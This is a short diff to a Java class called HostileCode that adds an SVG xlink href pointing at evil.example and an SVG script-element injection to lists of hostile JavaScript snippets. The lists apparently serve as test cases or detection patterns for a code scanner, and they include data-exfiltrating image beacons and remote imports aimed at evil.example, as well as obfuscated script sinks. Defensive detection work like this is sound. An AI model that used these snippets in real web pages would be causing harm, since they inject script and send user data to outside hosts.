@@ -39,6 +39,7 @@ final class HostileCode {
                 "importScripts(where)",
                 "new Image().src = '//evil.example/p?' + data",
                 "import('https://evil.example/m.js')",
+                "use.setAttributeNS('http://www.w3.org/1999/xlink', 'href', '//evil.example/p')",
                 "const host = 'tps://evil.example'; picture.src = 'ht' + host");
     }
 
@@ -53,6 +54,8 @@ final class HostileCode {
                 "document.write(text)",
                 "document.createElement('script').text = text",
                 "document.createElement(\"iframe\")",
+                "document.createElementNS('http://www.w3.org/2000/svg', 'script').textContent ="
+                        + " text",
                 "run(atob(text))",
                 "String.fromCharCode(102, 101)",
                 "\\u0066etch(where)",
